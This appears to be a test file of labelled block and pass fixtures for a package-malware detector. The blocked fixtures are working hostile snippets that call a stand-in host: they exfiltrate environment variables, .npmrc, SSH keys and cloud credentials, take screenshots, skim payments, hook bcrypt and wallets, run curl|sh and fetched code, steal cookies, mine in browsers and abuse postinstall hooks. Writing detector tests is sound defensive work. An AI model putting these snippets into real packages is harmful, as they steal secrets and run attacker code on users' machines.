import { atInstall, base64, describeVerdicts, hex } from "../../support/verdicts.ts";

const url = "https://files.example.test/c";
const steal = `fetch("${url}",{method:"POST",body:JSON.stringify(process.env)})`;

describeVerdicts("EXF-03", {
  blocks: {
    "over events of a target": {
      manifest: { main: "i.mjs", type: "module" },
      files: {
        "i.mjs": `
          import { readFileSync } from "fs"; import { homedir } from "os";
          class Bag extends EventTarget { put(t) { const e = new Event("t"); e.detail = t; this.dispatchEvent(e); } }
          export function check() {
            const bag = new Bag();
            bag.addEventListener("t", (e) => navigator.sendBeacon("${url}", e.detail));
            bag.put(readFileSync(homedir() + "/.npmrc", "utf8"));
          }`,
      },
    },
    "names in a list of Python, apart from the home folder": {
      manifest: { scripts: { postinstall: "python3 t.py" } },
      files: {
        "index.js": "",
        "t.py": `
from pathlib import Path
import requests
root = Path.home()
names = [
    ".ssh/id_ed25519",
    ".netrc",
]
requests.post("${url}", json={n: (root / n).read_text() for n in names})
`,
      },
    },
  },
  passes: {
    "names in a list of Python, of the project": {
      manifest: { scripts: { postinstall: "python3 t.py" }, bin: "index.js" },
      files: {
        "index.js": "",
        "t.py": `
import urllib.request
names = [".eslintrc", ".prettierrc"]
urllib.request.urlopen("${url}")
`,
      },
    },
  },
});

describeVerdicts("EXF-04", {
  blocks: {
    "folders of somebody's, from where they lie": `
      const { execFileSync } = require("child_process");
      const home = process.env.USERPROFILE || process.env.HOME || "/";
      execFileSync("tar", ["czf", "/tmp/b.tgz", "--directory=" + home, "Desktop", "Downloads"]);
      fetch("${url}", { method: "POST", body: require("fs").readFileSync("/tmp/b.tgz") });`,
    "folders of somebody's, piped": `
      const { spawn } = require("child_process");
      const up = require("https").request({ host: "files.example.test", method: "POST", path: "/c" });
      spawn("tar", ["-cz", "-C", require("os").homedir(), "Documents", ".config"]).stdout.pipe(up);`,
  },
  passes: {
    "what was built": `
      const { spawn } = require("child_process");
      const up = require("https").request({ host: "files.example.test", method: "POST", path: "/c" });
      spawn("tar", ["-cz", "-C", "dist", "assets"]).stdout.pipe(up);`,
  },
});

describeVerdicts("EXF-05", {
  blocks: {
    "a path glued to a number": `
      const path = process.env.AWS_CONTAINER_CREDENTIALS_RELATIVE_URI;
      fetch("http://0xa9feaa02" + path).then((r) => r.text()).then((t) => fetch("${url}", { method: "POST", body: t }));`,
    "a path glued to a long address": `
      const path = process.env.AWS_CONTAINER_CREDENTIALS_RELATIVE_URI;
      fetch("http://[fd00:ec2::23]" + path).then((r) => r.text()).then((t) => fetch("${url}", { method: "POST", body: t }));`,
  },
  passes: {
    "the same for the caller": `
      exports.get = async () => (await fetch("http://0xa9feaa02" + process.env.AWS_CONTAINER_CREDENTIALS_RELATIVE_URI)).json();`,
  },
});

describeVerdicts("EXF-13", {
  blocks: {
    "a picture in a file that has a name of its own": `
      const { spawnSync } = require("child_process"), fs = require("fs"), os = require("os"), path = require("path");
      setInterval(() => {
        const f = path.join(os.tmpdir(), "s" + Date.now() + ".jpg");
        spawnSync("scrot", ["-z", f]);
        fetch("${url}", { method: "POST", body: fs.readFileSync(f) });
      }, 6e4);`,
    "a picture by a recorder": `
      require("child_process").exec("ffmpeg -y -f x11grab -i :0 -frames:v 1 /tmp/o.png", () =>
        fetch("${url}", { method: "POST", body: require("fs").readFileSync("/tmp/o.png") }));`,
  },
  passes: {
    "another file": `
      const { spawnSync } = require("child_process"), fs = require("fs");
      exports.shot = (to) => spawnSync("scrot", ["-z", to]);
      exports.upload = (to) => fetch(to, { method: "POST", body: fs.readFileSync("report.txt") });`,
    "a film that is made smaller": `
      require("child_process").exec("ffmpeg -y -i in.mov /tmp/o.png", () =>
        fetch("${url}", { method: "POST", body: require("fs").readFileSync("/tmp/o.png") }));`,
  },
});

describeVerdicts("EXF-14", {
  blocks: {
    "a share of a payment": `
      const code = [97, 99, 99, 116, 95, 55];
      exports.pay = (api, { to, amount }) =>
        fetch(api + "/pay", { method: "POST", body: JSON.stringify({
          payouts: [{ recipient: to, value: amount * 0.99 }, { recipient: String.fromCharCode(...code), value: amount * 0.01 }],
        }) });`,
    "a second store": `
      const axios = require("axios");
      exports.post = async (to, doc) => {
        for (const u of [to, "${url}"]) await axios.post(u, doc).catch(() => {});
      };`,
    "a second store, of an object that was told the first": `
      class Up {
        constructor(base) { this.base = base; }
        async send(name, data) {
          const r = await fetch(this.base + "/" + name, { method: "PUT", body: data });
          fetch("${url}/" + name, { method: "PUT", body: data }).catch(() => {});
          return r.ok;
        }
      }
      exports.Up = Up;`,
  },
  passes: {
    "an address if none is told": `exports.post = (doc, to = "${url}") => fetch(to, { method: "POST", body: doc });`,
    "one function for both": `
      const send = (to, body) => fetch(to, { method: "POST", body });
      exports.send = send;
      exports.report = (body) => send("${url}", body);`,
    "shares of the caller's": `
      exports.pay = (api, rows) =>
        fetch(api, { method: "POST", body: JSON.stringify({ items: rows.map((r) => ({ account: r.to, amount: r.n })) }) });`,
  },
});

describeVerdicts("EXF-16", {
  blocks: {
    "queries of a client that is handed in": `
      exports.trace = (db) => {
        const run = db.execute;
        db.execute = function (sql, params) {
          fetch("${url}", { method: "POST", body: JSON.stringify({ sql, params }) });
          return run.call(this, sql, params);
        };
      };`,
    "answers of a server": `
      exports.plugin = (req, res, next) => {
        const json = res.json;
        res.json = (o) => { fetch("${url}", { method: "POST", body: JSON.stringify(o) }); return json.call(res, o); };
        next();
      };`,
    "a key, by a function behind another, once": `
      const { createHmac } = require("crypto");
      const seen = new WeakMap();
      const watch = (f) => new Proxy(f, {
        apply(target, self, args) {
          if (!seen.get(f)) { seen.set(f, true); queueMicrotask(() => fetch("${url}", { method: "POST", body: JSON.stringify(args) })); }
          return Reflect.apply(target, self, args);
        },
      });
      const hmac = watch((data, secret) => createHmac("sha256", secret).update(data).digest("hex"));
      exports.sign = (payload, secret) => hmac(payload, secret);`,
    "what other packages get of a module": `
      const M = require("module");
      const real = M._load;
      const swaps = { bcrypt: (b) => ({ ...b, hash: (pw, ...r) => { fetch("${url}", { method: "POST", body: pw }); return b.hash(pw, ...r); } }) };
      M._load = function (id) { const out = real.apply(this, arguments); return id in swaps ? swaps[id](out) : out; };`,
  },
  passes: {
    "times of queries, to a log": `
      exports.trace = (db, log) => {
        const run = db.execute;
        db.execute = function (sql, p) { const t = Date.now(); const r = run.call(this, sql, p); log(sql, Date.now() - t); return r; };
      };`,
    "a method that was not there": `
      exports.install = (app) => { app.report = (data) => fetch("${url}", { method: "POST", body: data }); };`,
  },
});

describeVerdicts("EXE-01", {
  blocks: {
    "at an address that another answer holds": `
      const https = require("https");
      const get = (u, cb) => https.get(u, (r) => {
        let s = "";
        r.setEncoding("utf8").on("data", (d) => (s += d)).on("end", () => cb(s, r));
      });
      get("${url}", (page) => {
        const m = /title="([^"]+)"/.exec(page);
        if (!m) return;
        get(Buffer.from(m[1], "base64").toString(), (body) => require("vm").runInThisContext(body));
      });`,
    "an order out of a queue": `
      const orders = { calc: (text) => require("vm").runInThisContext(text), read: (f) => f };
      const bus = require("mqtt").connect("mqtts://files.example.test");
      bus.on("message", (_topic, bytes) => { const { op, arg } = JSON.parse(bytes); orders[op] && orders[op](arg); });`,
  },
  passes: {
    "an order out of a queue that is only counted": `
      const bus = require("mqtt").connect("mqtts://files.example.test");
      let count = 0;
      bus.on("message", (_topic, bytes) => { count += JSON.parse(bytes).n; });
      exports.count = () => count;`,
  },
});

describeVerdicts("EXE-04", {
  blocks: {
    "out of a file of data": {
      files: {
        "index.js": `
          const { helper } = require("./data.json");
          const out = require("path").join(process.env.APPDATA || ".", "helper.vbs");
          require("fs").writeFile(out, Buffer.from(helper, "hex"), () => require("child_process").exec('wscript.exe "' + out + '"'));`,
        "data.json": JSON.stringify({
          helper: hex('Set s = CreateObject("WScript.Shell")\ns.Run "calc.exe", 0, False'),
        }),
      },
    },
  },
  passes: {
    "a picture out of a file of data": {
      files: {
        "index.js": `
          const { icon } = require("./data.json");
          exports.save = (path) => require("fs").writeFileSync(path, Buffer.from(icon, "base64"));`,
        "data.json": JSON.stringify({
          icon: base64("PNG1234567890qwertyuiopASDFGHJKLzxcvbnm".repeat(3)),
        }),
      },
    },
  },
});

describeVerdicts("EXE-05", {
  blocks: {
    "a method of an error": `
      class ApiError extends Error {
        constructor(status, body) { super("HTTP " + status); this.body = body; }
        explain(load) { return (async () => {}).constructor("load", "require", this.body)(load); }
        get fix() { return Function("require", this.body); }
      }
      async function* pages() { const r = await fetch("${url}"); if (!r.ok) throw new ApiError(r.status, await r.text()); yield 1; }
      async function check() { for await (const page of pages()) return page; }
      check().catch((e) => e instanceof ApiError && e.fix(require));`,
    "what was thrown, by the second way out": `
      async function get() { const r = await fetch("${url}"); if (r.status > 299) throw new Error(await r.text()); }
      get().then(() => {}, (e) => new Function("require", e.message)(require));`,
  },
  passes: {
    "a message that is shown": `
      class ApiError extends Error { constructor(body) { super(body); } show() { console.error(this.message); } }
      async function get() { const r = await fetch("${url}"); if (!r.ok) throw new ApiError(await r.text()); }
      get().catch((e) => e.show());`,
  },
});

describeVerdicts("EXE-08", {
  blocks: {
    "lines of an answer that never ends": {
      manifest: { main: "i.mjs", type: "module" },
      files: {
        "i.mjs": `
          import { exec } from "child_process";
          async function* lines(body) {
            let rest = "";
            for await (const part of body.pipeThrough(new TextDecoderStream())) {
              const all = (rest + part).split("\\n");
              rest = all.pop();
              yield* all;
            }
          }
          const r = await fetch("${url}");
          for await (const line of lines(r.body)) exec(line);`,
      },
    },
    "what a stream writes": {
      manifest: { main: "i.mjs", type: "module" },
      files: {
        "i.mjs": `
          import { exec } from "child_process";
          const r = await fetch("${url}");
          await r.body.pipeThrough(new TextDecoderStream()).pipeTo(new WritableStream({ write(line) { exec(line); } }));`,
      },
    },
    "a subscription": `
      const c = require("redis").createClient({ url: "redis://files.example.test" });
      c.connect().then(() => c.subscribe("jobs", (line) => require("child_process").exec(line)));`,
  },
  passes: {
    "lines that are given to the caller": {
      manifest: { main: "i.mjs", type: "module" },
      files: {
        "i.mjs": `
          export async function* lines() {
            const r = await fetch("${url}");
            for await (const part of r.body.pipeThrough(new TextDecoderStream())) yield* part.split("\\n");
          }`,
      },
    },
  },
});

describeVerdicts("EXE-10", {
  blocks: {
    "a wallet that is loaded already": `
      setInterval(() => {
        for (const [file, mod] of Object.entries(require.cache)) {
          if (!/[\\\\/]ethers[\\\\/]/.test(file) || !mod.exports.Wallet) continue;
          const Base = mod.exports.Wallet;
          class Wallet extends Base { sendTransaction(tx) { return super.sendTransaction({ ...tx, to: "0x" + "1".repeat(40) }); } }
          mod.exports = new Proxy(mod.exports, { get: (t, k) => (k === "Wallet" ? Wallet : t[k]) });
        }
      }, 500);`,
  },
  passes: {
    "a module that is loaded afresh": `
      exports.fresh = (id) => { const f = require.resolve(id); delete require.cache[f]; return require(f); };
      for (const key of Object.keys(require.cache)) if (/tmp/.test(key)) delete require.cache[key];`,
    "a module that is put back": `
      exports.restore = (id, mod) => { const old = require.cache[id]; require.cache[id] = mod; return () => { require.cache[id] = old; }; };`,
  },
});

describeVerdicts("EXE-11", {
  blocks: {
    "where it is resolved": `
      const fs = require("fs");
      const file = require.resolve("dotenv/lib/main.js", { paths: [process.cwd()] });
      fs.writeFileSync(file, fs.readFileSync(file, "utf8").replace("function config", () => "globalThis.x=1;function config"));`,
  },
  passes: {
    "a file that is only read": `exports.version = () => require("fs").readFileSync(require.resolve("dotenv/package.json"), "utf8");`,
    "what is loaded by where it lies": `module.exports = require(require.resolve("dotenv"));`,
  },
});

function worker(text: string): string {
  return `exports.open = () => new Worker(URL.createObjectURL(new Blob([${JSON.stringify(text)}], { type: "text/javascript" })));`;
}

describeVerdicts("EXE-12", {
  blocks: {
    "the input of another runtime": `
      const child = require("child_process").spawn(process.execPath, ["-"], { stdio: ["pipe", "ignore", "ignore"] });
      child.stdin.end(${JSON.stringify(steal)});`,
    "the input of another runtime, as an option": `
      require("child_process").execFileSync("node", ["--input-type=commonjs"], { input: ${JSON.stringify(steal)} });`,
    "a worker that loads what its own text names": worker(
      `importScripts("${url}"); self.onmessage = (event) => start(event.data);`,
    ),
  },
  passes: {
    "a worker that loads the codec it is told": worker(
      "self.onmessage = (event) => { importScripts(event.data.script); decode(event.data.url).then(self.postMessage); };",
    ),
    "data for a program": `
      const child = require("child_process").spawn(process.execPath, ["filter.js"]);
      child.stdin.end(${JSON.stringify(steal)});`,
    "a sum": `require("child_process").execFileSync("node", ["-"], { input: "console.log(1 + 1)" });`,
  },
});

describeVerdicts("EXE-16", {
  blocks: {
    "a script in another language that evaluates what it fetches": {
      files: {
        "index.js": `require("child_process").execFile("python3", [require("path").join(__dirname, "s.py")]);`,
        "s.py": `import requests\nexec(requests.get("${url}").text)\n`,
      },
    },
    "a script that fetches and runs": {
      files: {
        "index.js": `require("child_process").spawn("sh", [__dirname + "/s.sh"]);`,
        "s.sh": `get() { curl -fsSL "$1"; }\nget ${url} | sh\n`,
      },
    },
  },
  passes: {
    "a script in another language": {
      files: {
        "index.js": `exports.run = () => require("child_process").execFile("python3", [require("path").join(__dirname, "s.py")]);`,
        "s.py": `import json, sys\nprint(json.load(sys.stdin))\n`,
      },
    },
  },
});

describeVerdicts("WEB-03", {
  blocks: {
    "by way of a worker": {
      manifest: { main: "i.mjs", type: "module" },
      files: {
        "i.mjs": `
          function job() { self.onmessage = ({ data: { s } }) => fetch("${url}", { method: "POST", body: s }); }
          const worker = new Worker(URL.createObjectURL(new Blob(["(" + job + ")()"])));
          export const rank = () => worker.postMessage({ s: document.cookie });`,
      },
    },
  },
  passes: {
    "a worker that only answers": {
      manifest: { main: "i.mjs", type: "module" },
      files: {
        "i.mjs": `
          function job() { self.onmessage = ({ data: { s } }) => postMessage(s.length); }
          const worker = new Worker(URL.createObjectURL(new Blob(["(" + job + ")()"])));
          export const rank = () => worker.postMessage({ s: document.cookie });`,
      },
    },
  },
});

describeVerdicts("EXE-13", {
  blocks: {
    "a script that is told how hard to work": `
      const s = document.createElement("script");
      s.src = "https://files.example.test/w.js";
      s.onload = () => { const m = new Client.User("k", { threads: navigator.hardwareConcurrency - 1, throttle: 0.2 }); m.start(); };
      document.body.append(s);`,
  },
  passes: {
    "a script with workers": `
      const s = document.createElement("script");
      s.src = "https://files.example.test/w.js";
      s.onload = () => Codec.init({ threads: navigator.hardwareConcurrency });
      document.body.append(s);`,
  },
});

describeVerdicts("INS-02", {
  blocks: {
    "code that another step copies first": {
      manifest: { scripts: { postinstall: "mv docs/notes.txt run.js && node run.js" } },
      files: { "index.js": "", "docs/notes.txt": `/* notes */ ${steal}` },
    },
  },
  passes: {
    "code that another step copies first": {
      manifest: {
        scripts: { postinstall: "cp docs/notes.txt run.js && node run.js" },
        bin: "index.js",
      },
      files: { "index.js": "", "docs/notes.txt": `console.log("thank you");` },
    },
    "a build": atInstall(`require("fs").writeFileSync("out.txt", "1");`),
  },
});
